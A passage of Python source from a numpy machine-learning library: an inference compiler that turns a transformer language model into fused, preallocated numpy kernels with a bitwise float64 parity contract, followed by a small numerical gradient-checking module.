  softmax → mask → scale of attention runs as one fused in-place kernel
  per layer;
- **a precision knob** — ``precision="float64"`` (default) keeps every
  kernel in the tape's dtype, ``"float32"`` casts the packed weights and
  scratch once at compile time for roughly half the memory traffic.

The float64 contract is strict: :meth:`InferencePlan.forward` is
**bitwise-identical** to ``CommandLineLM.forward(...).data`` under
``no_grad``, and :meth:`InferencePlan.pooled` to
``pool(hidden, mask, strategy).data``.  Each kernel replicates the exact
ufunc sequence of the tape path (same operand order, same ``x ** 3``
power, same ``1.0 / sqrt`` reciprocal) **and the exact GEMM call
shapes**: BLAS picks its micro-kernel, and therefore its summation
grouping, from the operand shapes, so a fused or flattened matmul can
differ from the tape's batched ``(B, T, D) @ (D, D)`` call in the last
bit at thin shapes.  float64 therefore issues the tape's calls
verbatim and wins on buffer reuse and folded-out graph bookkeeping
alone; the shape-changing fusions (QKV packing, ``(B*T, D)``
flattening) are reserved for float32, which is tolerance-mode anyway
(property-tested in ``tests/nn/test_inference_plan.py``).

Models the compiler does not cover (subclassed modules, bias-free
linears, non-standard block wiring) raise
:class:`InferenceCompileError` at compile time — callers treat that as
"serve through the Tensor path", never as a hard failure.
"""

from __future__ import annotations

import math
import threading
from collections import OrderedDict
from dataclasses import dataclass

import numpy as np

from repro.errors import ReproError
from repro.nn import functional as F
from repro.nn.attention import NEG_INF, MultiHeadSelfAttention
from repro.nn.layers import Dropout, Embedding, LayerNorm, Linear
from repro.nn.transformer import TransformerBlock, TransformerEncoder

#: Supported compute precisions for a compiled plan.
PRECISIONS = ("float64", "float32")

#: Shape buckets kept alive at once; least recently used are dropped
#: (each bucket's scratch is proportional to ``B * T * (D + H*T)``).
_MAX_SCRATCH_BUCKETS = 32


class InferenceCompileError(ReproError):
    """The model's structure is outside what the compiler covers.

    Raised by :meth:`InferencePlan.compile` when a module is subclassed,
    rewired, or configured in a way whose numerics the straight-line
    kernels would not replicate.  Serving layers catch this and fall
    back to the Tensor-tape path.
    """


def _exact(module, cls, where: str):
    """Require *module* to be exactly *cls* (subclasses may override
    ``forward`` with different math, which the compiled kernels would
    silently misrepresent)."""
    if type(module) is not cls:
        raise InferenceCompileError(
            f"{where} must be {cls.__name__} (got {type(module).__name__}); "
            "this model is outside the compiled-inference surface"
        )
    return module


def _packed(array: np.ndarray, dtype) -> np.ndarray:
    """A contiguous snapshot of *array* in the plan's dtype.

    Always a copy — the plan must be immune to post-compile weight
    updates (continued training), so it never aliases model storage.
    """
    return np.array(array, dtype=dtype, order="C", copy=True)


@dataclass(frozen=True)
class _LayerKernel:
    """One transformer block's weights, prepacked for the fused kernels.

    Both the fused ``(D, 3D)`` QKV matrix (float32 hot path — one GEMM)
    and the separate per-projection matrices (float64 parity path) are
    kept: BLAS kernel dispatch depends on the GEMM call shape, so the
    bitwise contract forces float64 to issue exactly the tape's calls.
    """

    wqkv: np.ndarray  # (D, 3D) — fused query|key|value projection
    bqkv: np.ndarray  # (3D,)
    wq: np.ndarray  # (D, D) separate projections — float64 parity path
    bq: np.ndarray
    wk: np.ndarray
    bk: np.ndarray
    wv: np.ndarray
    bv: np.ndarray
    wo: np.ndarray  # (D, D) attention output projection
    bo: np.ndarray  # (D,)
    attn_gamma: np.ndarray
    attn_beta: np.ndarray
    attn_eps: float
    w_in: np.ndarray  # (D, I)
    b_in: np.ndarray  # (I,)
    w_out: np.ndarray  # (I, D)
    b_out: np.ndarray  # (D,)
    ffn_gamma: np.ndarray
    ffn_beta: np.ndarray
    ffn_eps: float


class InferencePlan:
    """A trained :class:`CommandLineLM` compiled to straight-line numpy.

    Build one with :meth:`compile`; the plan snapshots the model's
    weights (raw contiguous arrays, QKV fused per layer), so weight
    updates after compilation require recompiling.  The plan is the
    serving hot path behind
    :meth:`repro.lm.encoder_api.CommandEncoder.compile_inference`.

    Thread-safety: scratch buffers are **thread-local** — the threaded
    scoring backend runs one ``score_batch`` per pool thread against a
    shared service, so each thread gets its own shape buckets and
    forwards never race (the packed weights themselves are read-only).
    The ``calls`` counter is a plain int and therefore approximate
    under threads; it is observability, not accounting.

    Returned arrays are **views into the calling thread's scratch**,
    valid until that thread's next ``forward``/``pooled`` call — copy
    (or assign into a result array) immediately.
    """

    def __init__(
        self,
        *,
        precision: str,
        token_weight: np.ndarray,
        position_weight: np.ndarray,
        embed_gamma: np.ndarray,
        embed_beta: np.ndarray,
        embed_eps: float,
        layers: list[_LayerKernel],
        n_heads: int,
        head_dim: int,
        max_position: int,
    ):
        self.precision = precision
        self.dtype = np.float32 if precision == "float32" else np.float64
        self.token_weight = token_weight
        self.position_weight = position_weight
        self.embed_gamma = embed_gamma
        self.embed_beta = embed_beta
        self.embed_eps = embed_eps
        self.layers = layers
        self.n_heads = n_heads
        self.head_dim = head_dim
        self.hidden_size = n_heads * head_dim
        self.intermediate_size = layers[0].w_in.shape[1] if layers else 0
        self.max_position = max_position
        self.vocab_size = token_weight.shape[0]
        self.scale = 1.0 / math.sqrt(head_dim)
        #: Forward passes served since compilation (observability).
        self.calls = 0
        self._local = threading.local()

    # -- compilation -------------------------------------------------------

    @classmethod
    def compile(cls, model, precision: str = "float64") -> "InferencePlan":
        """Extract and prepack *model*'s weights into a plan.

        Raises :class:`InferenceCompileError` for any model whose
        structure the straight-line kernels do not cover.
        """
        if precision not in PRECISIONS:
            raise ValueError(f"precision must be one of {PRECISIONS} (got {precision!r})")
        # deferred import: repro.lm imports this module's host package
        from repro.lm.model import CommandLineLM

        _exact(model, CommandLineLM, "model")
        dtype = np.float32 if precision == "float32" else np.float64
        token = _exact(model.token_embedding, Embedding, "model.token_embedding")
        position = _exact(model.position_embedding, Embedding, "model.position_embedding")
        norm = _exact(model.embedding_norm, LayerNorm, "model.embedding_norm")
        _exact(model.embedding_dropout, Dropout, "model.embedding_dropout")
        encoder = _exact(model.encoder, TransformerEncoder, "model.encoder")
        layers = [
            cls._compile_block(block, index, dtype)
            for index, block in enumerate(encoder.blocks)
        ]
        config = model.config
        return cls(
            precision=precision,
            token_weight=_packed(token.weight.data, dtype),
            position_weight=_packed(position.weight.data, dtype),
            embed_gamma=_packed(norm.gamma.data, dtype),
            embed_beta=_packed(norm.beta.data, dtype),
            embed_eps=float(norm.eps),
            layers=layers,
            n_heads=config.n_heads,
            head_dim=config.hidden_size // config.n_heads,
            max_position=config.max_position,
        )

    @staticmethod
    def _compile_block(block, index: int, dtype) -> _LayerKernel:
        where = f"model.encoder.blocks[{index}]"
        _exact(block, TransformerBlock, where)
        attention = _exact(block.attention, MultiHeadSelfAttention, f"{where}.attention")
        _exact(attention.attn_dropout, Dropout, f"{where}.attention.attn_dropout")
        _exact(block.dropout1, Dropout, f"{where}.dropout1")
        _exact(block.dropout2, Dropout, f"{where}.dropout2")
        projections = []
        for name in ("query", "key", "value", "output"):
            linear = _exact(getattr(attention, name), Linear, f"{where}.attention.{name}")
            if linear.bias is None:
                raise InferenceCompileError(
                    f"{where}.attention.{name} has no bias; the fused QKV kernel "
                    "assumes biased projections"
                )
            projections.append(linear)
        query, key, value, output = projections
        attn_norm = _exact(block.attention_norm, LayerNorm, f"{where}.attention_norm")
        ffn_norm = _exact(block.ffn_norm, LayerNorm, f"{where}.ffn_norm")
        ffn_in = _exact(block.ffn_in, Linear, f"{where}.ffn_in")
        ffn_out = _exact(block.ffn_out, Linear, f"{where}.ffn_out")
        if ffn_in.bias is None or ffn_out.bias is None:
            raise InferenceCompileError(f"{where} FFN linears must carry biases")
        assert query.bias is not None and key.bias is not None
        assert value.bias is not None and output.bias is not None
        return _LayerKernel(
            # prepacked QKV: one (D, 3D) GEMM replaces three batched
            # matmuls on the float32 hot path
            wqkv=_packed(
                np.concatenate(
                    [query.weight.data, key.weight.data, value.weight.data], axis=1
                ),
                dtype,
            ),
            bqkv=_packed(
                np.concatenate([query.bias.data, key.bias.data, value.bias.data]), dtype
            ),
            wq=_packed(query.weight.data, dtype),
            bq=_packed(query.bias.data, dtype),
            wk=_packed(key.weight.data, dtype),
            bk=_packed(key.bias.data, dtype),
            wv=_packed(value.weight.data, dtype),
            bv=_packed(value.bias.data, dtype),
            wo=_packed(output.weight.data, dtype),
            bo=_packed(output.bias.data, dtype),
            attn_gamma=_packed(attn_norm.gamma.data, dtype),
            attn_beta=_packed(attn_norm.beta.data, dtype),
            attn_eps=float(attn_norm.eps),
            w_in=_packed(ffn_in.weight.data, dtype),
            b_in=_packed(ffn_in.bias.data, dtype),
            w_out=_packed(ffn_out.weight.data, dtype),
            b_out=_packed(ffn_out.bias.data, dtype),
            ffn_gamma=_packed(ffn_norm.gamma.data, dtype),
            ffn_beta=_packed(ffn_norm.beta.data, dtype),
            ffn_eps=float(ffn_norm.eps),
        )

    # -- scratch buffers ---------------------------------------------------

    def _buffers(self, batch: int, seq: int) -> dict[str, np.ndarray]:
        """Preallocated scratch for the ``(batch, seq)`` shape bucket.

        Buckets live in thread-local storage so concurrent forwards from
        the threaded backend never share an intermediate.
        """
        scratch = getattr(self._local, "scratch", None)
        if scratch is None:
            scratch = self._local.scratch = OrderedDict()
        key = (batch, seq)
        bucket = scratch.get(key)
        if bucket is not None:
            scratch.move_to_end(key)
            return bucket
        d, h, dh, i = self.hidden_size, self.n_heads, self.head_dim, self.intermediate_size
        rows = batch * seq
        dt = self.dtype
        bucket = {
            "x": np.empty((batch, seq, d), dtype=dt),
            "res": np.empty((batch, seq, d), dtype=dt),
            "sq": np.empty((batch, seq, d), dtype=dt),
            "mu": np.empty((batch, seq, 1), dtype=dt),
            "var": np.empty((batch, seq, 1), dtype=dt),
            "qkv": np.empty((rows, 3 * d), dtype=dt),
            "scores": np.empty((batch, h, seq, seq), dtype=dt),
            "stat": np.empty((batch, h, seq, 1), dtype=dt),
            "ctx": np.empty((batch, h, seq, dh), dtype=dt),
            "merge": np.empty((batch, seq, h, dh), dtype=dt),
            "attn": np.empty((rows, d), dtype=dt),
            "ffh": np.empty((rows, i), dtype=dt),
            "gtmp": np.empty((rows, i), dtype=dt),
            "ff2": np.empty((rows, d), dtype=dt),
            "additive": np.empty((batch, 1, 1, seq), dtype=dt),
            "pooled": np.empty((batch, 1, d), dtype=dt),
            "weights": np.empty((batch, seq), dtype=np.float64),
        }
        if dt is np.float64:
            # parity path: one (B, T, D) output per projection, written
            # by the tape's exact batched-matmul call shapes (the fused
            # "qkv" buffer above goes unused in this mode)
            for name in ("q3", "k3", "v3"):
                bucket[name] = np.empty((batch, seq, d), dtype=dt)
        scratch[key] = bucket
        while len(scratch) > _MAX_SCRATCH_BUCKETS:
            scratch.popitem(last=False)
        return bucket

    @property
    def scratch_buckets(self) -> int:
        """Live ``(batch, seq)`` shape buckets on this thread."""
        return len(getattr(self._local, "scratch", ()))

    # -- kernels -----------------------------------------------------------

    def _layer_norm(self, src, gamma, beta, eps, out, buf) -> None:
        """Post-norm layer norm, in place over *src*, result into *out*.

        Replicates :func:`repro.nn.functional.layer_norm` ufunc-for-ufunc
        (mean, centered, ``centered ** 2`` mean, ``1.0 / sqrt(var+eps)``,
        scale, shift) so float64 results are bit-equal. *src* is
        clobbered; *out* may alias *src*.
        """
        mu, var, sq = buf["mu"], buf["var"], buf["sq"]
        np.mean(src, axis=-1, keepdims=True, out=mu)
        np.subtract(src, mu, out=src)
        np.power(src, 2, out=sq)
        np.mean(sq, axis=-1, keepdims=True, out=var)
        np.add(var, eps, out=var)
        np.sqrt(var, out=var)
        np.divide(1.0, var, out=var)
        np.multiply(src, var, out=src)
        np.multiply(src, gamma, out=src)
        np.add(src, beta, out=out)

    def _attention(self, layer: _LayerKernel, buf, batch: int, seq: int, additive):
        """Fused self-attention: QKV projection, one in-place masked
        softmax kernel, one context GEMM, one output GEMM.

        The projection differs by precision.  float64 issues the tape's
        exact batched ``(B, T, D) @ (D, D)`` matmuls — BLAS selects its
        micro-kernel (and therefore its summation grouping) from the
        call shape, so a fused or flattened GEMM can differ in the last
        bit at thin shapes.  float32 takes the fused ``(B*T, D) @ (D,
        3D)`` single-GEMM form.
        """
        d, h, dh = self.hidden_size, self.n_heads, self.head_dim
        if self.dtype is np.float64:
            x3 = buf["x"]
            q3, k3, v3 = buf["q3"], buf["k3"], buf["v3"]
            np.matmul(x3, layer.wq, out=q3)
            np.add(q3, layer.bq, out=q3)
            np.matmul(x3, layer.wk, out=k3)
            np.add(k3, layer.bk, out=k3)
            np.matmul(x3, layer.wv, out=v3)
            np.add(v3, layer.bv, out=v3)
            q = q3.reshape(batch, seq, h, dh).transpose(0, 2, 1, 3)
            k = k3.reshape(batch, seq, h, dh).transpose(0, 2, 1, 3)
            v = v3.reshape(batch, seq, h, dh).transpose(0, 2, 1, 3)
        else:
            x2 = buf["x"].reshape(batch * seq, d)
            qkv = buf["qkv"]
            np.matmul(x2, layer.wqkv, out=qkv)
            np.add(qkv, layer.bqkv, out=qkv)
            # head split: strided views into the fused projection — the
            # last axis of each D-column block is contiguous, no copies
            qkv4 = qkv.reshape(batch, seq, 3 * d)
            q = qkv4[:, :, :d].reshape(batch, seq, h, dh).transpose(0, 2, 1, 3)
            k = qkv4[:, :, d : 2 * d].reshape(batch, seq, h, dh).transpose(0, 2, 1, 3)
            v = qkv4[:, :, 2 * d :].reshape(batch, seq, h, dh).transpose(0, 2, 1, 3)
        scores, stat = buf["scores"], buf["stat"]
        np.matmul(q, k.transpose(0, 1, 3, 2), out=scores)
        np.multiply(scores, self.scale, out=scores)
        if additive is not None:
            np.add(scores, additive, out=scores)
        # in-place numerically-stable softmax (the tape's F.softmax)
        np.max(scores, axis=-1, keepdims=True, out=stat)
        np.subtract(scores, stat, out=scores)
        np.exp(scores, out=scores)
        np.sum(scores, axis=-1, keepdims=True, out=stat)
        np.divide(scores, stat, out=scores)
        ctx, merge = buf["ctx"], buf["merge"]
        np.matmul(scores, v, out=ctx)
        np.copyto(merge, ctx.transpose(0, 2, 1, 3))
        attn = buf["attn"]
        if self.dtype is np.float64:
            attn3 = attn.reshape(batch, seq, d)
            np.matmul(merge.reshape(batch, seq, d), layer.wo, out=attn3)
            np.add(attn3, layer.bo, out=attn3)
            return attn3
        np.matmul(merge.reshape(batch * seq, d), layer.wo, out=attn)
        np.add(attn, layer.bo, out=attn)
        return attn.reshape(batch, seq, d)

    def forward(self, ids, attention_mask=None) -> np.ndarray:
        """Hidden states ``(B, T, D)`` — ``CommandLineLM.forward`` without
        the tape.  The result is a view into plan scratch; copy before
        the next call."""
        ids = np.asarray(ids)
        if ids.ndim != 2:
            raise ValueError(f"ids must be (batch, seq), got shape {ids.shape}")
        batch, seq = ids.shape
        if seq > self.max_position:
            raise ValueError(
                f"sequence length {seq} exceeds max_position {self.max_position}"
            )
        if ids.size and (ids.min() < 0 or ids.max() >= self.vocab_size):
            raise IndexError(
                f"embedding ids out of range [0, {self.vocab_size}): "
                f"min={ids.min()}, max={ids.max()}"
            )
        buf = self._buffers(batch, seq)
        x = buf["x"]
        np.take(self.token_weight, ids, axis=0, out=x)
        np.add(x, self.position_weight[:seq], out=x)
        self._layer_norm(x, self.embed_gamma, self.embed_beta, self.embed_eps, x, buf)
        additive = None
        if attention_mask is not None:
            mask = np.asarray(attention_mask, dtype=bool)
            additive = buf["additive"]
            np.copyto(additive, np.where(mask, 0.0, NEG_INF)[:, None, None, :])
        res = buf["res"]
        for layer in self.layers:
            attended = self._attention(layer, buf, batch, seq, additive)
            np.add(x, attended, out=res)
            self._layer_norm(res, layer.attn_gamma, layer.attn_beta, layer.attn_eps, x, buf)
            ffh, gtmp, ff2 = buf["ffh"], buf["gtmp"], buf["ff2"]
            if self.dtype is np.float64:
                # the tape's batched (B, T, D) @ (D, I) call shape —
                # see _attention for why the shape is load-bearing
                np.matmul(x, layer.w_in, out=ffh.reshape(batch, seq, -1))
            else:
                np.matmul(x.reshape(batch * seq, self.hidden_size), layer.w_in, out=ffh)
            np.add(ffh, layer.b_in, out=ffh)
            # in-place tanh-approximation GELU (the tape's F.gelu):
            # 0.5 * x * (1 + tanh(sqrt(2/pi) * (x + 0.044715 x^3)))
            if self.dtype is np.float64:
                # x ** 3 dispatches to libm pow, which is not the
                # double-rounded x*x*x — the tape pays the same call, so
                # matching it is the price of bitwise parity
                np.power(ffh, 3, out=gtmp)
            else:
                # float32 is tolerance-mode: the multiply chain is ~30x
                # cheaper than scalar pow and within 1 ulp of it
                np.multiply(ffh, ffh, out=gtmp)
                np.multiply(gtmp, ffh, out=gtmp)
            np.multiply(gtmp, 0.044715, out=gtmp)
            np.add(ffh, gtmp, out=gtmp)
            np.multiply(gtmp, F._SQRT_2_OVER_PI, out=gtmp)
            np.tanh(gtmp, out=gtmp)
            np.add(gtmp, 1.0, out=gtmp)
            np.multiply(ffh, 0.5, out=ffh)
            np.multiply(ffh, gtmp, out=ffh)
            if self.dtype is np.float64:
                np.matmul(
                    ffh.reshape(batch, seq, -1),
                    layer.w_out,
                    out=ff2.reshape(batch, seq, self.hidden_size),
                )
            else:
                np.matmul(ffh, layer.w_out, out=ff2)
            np.add(ff2, layer.b_out, out=ff2)
            np.add(x, ff2.reshape(batch, seq, self.hidden_size), out=res)
            self._layer_norm(res, layer.ffn_gamma, layer.ffn_beta, layer.ffn_eps, x, buf)
        self.calls += 1
        return x

    def pooled(self, ids, attention_mask, strategy: str = "mean") -> np.ndarray:
        """Pooled embeddings ``(B, D)`` — forward + the tape's pooling.

        Mean pooling replicates :func:`repro.lm.pooling.mean_pool`'s
        ``(B, 1, T) @ (B, T, D)`` matmul formulation (not a masked sum),
        which is part of the bitwise contract.  The result is a view
        into plan scratch; copy before the next call.
        """
        hidden = self.forward(ids, attention_mask)
        if strategy == "cls":
            return hidden[:, 0, :]
        if strategy != "mean":
            raise ValueError(f"unknown pooling strategy {strategy!r}")
        batch, seq, d = hidden.shape
        buf = self._buffers(batch, seq)
        mask = np.asarray(attention_mask, dtype=np.float64)
        counts = mask.sum(axis=1, keepdims=True)
        if (counts == 0).any():
            raise ValueError("attention_mask has rows with no valid positions")
        weights = buf["weights"]
        np.divide(mask, counts, out=weights)
        pooled = buf["pooled"]
        if self.dtype is np.float64:
            np.matmul(weights[:, None, :], hidden, out=pooled)
        else:
            np.matmul(weights[:, None, :].astype(self.dtype), hidden, out=pooled)
        return pooled.reshape(batch, d)

    # -- observability -----------------------------------------------------

    def describe(self) -> str:
        """Short human-readable identity, e.g. ``plan(float64, 2x32d)``."""
        return (
            f"plan({self.precision}, {len(self.layers)}x{self.hidden_size}d, "
            f"heads={self.n_heads})"
        )
