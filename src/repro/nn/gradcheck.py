"""Numerical gradient checking for the autograd engine.

Used by the test suite to validate every fused backward rule against
central finite differences.
"""

from __future__ import annotations

from collections.abc import Callable

import numpy as np

from repro.nn.tensor import Tensor


def numerical_gradient(
    fn: Callable[[Tensor], Tensor],
    value: np.ndarray,
    epsilon: float = 1e-6,
) -> np.ndarray:
    """Central-difference gradient of scalar-valued *fn* at *value*."""
    value = np.asarray(value, dtype=np.float64)
    grad = np.zeros_like(value)
    flat = value.reshape(-1)
    grad_flat = grad.reshape(-1)
    for index in range(flat.size):
        original = flat[index]
        flat[index] = original + epsilon
        upper = fn(Tensor(value.copy())).item()
        flat[index] = original - epsilon
        lower = fn(Tensor(value.copy())).item()
        flat[index] = original
        grad_flat[index] = (upper - lower) / (2 * epsilon)
    return grad


def check_gradient(
    fn: Callable[[Tensor], Tensor],
    value: np.ndarray,
    epsilon: float = 1e-6,
    atol: float = 1e-5,
    rtol: float = 1e-4,
) -> tuple[bool, float]:
    """Compare autograd and numerical gradients of *fn* at *value*.

    Returns ``(ok, max_abs_difference)``.
    """
    tensor = Tensor(np.asarray(value, dtype=np.float64).copy(), requires_grad=True)
    output = fn(tensor)
    output.backward()
    assert tensor.grad is not None, "fn does not depend on its input"
    analytic = tensor.grad
    numeric = numerical_gradient(fn, np.asarray(value, dtype=np.float64), epsilon=epsilon)
    difference = float(np.max(np.abs(analytic - numeric)))
    ok = bool(np.allclose(analytic, numeric, atol=atol, rtol=rtol))
    return ok, difference
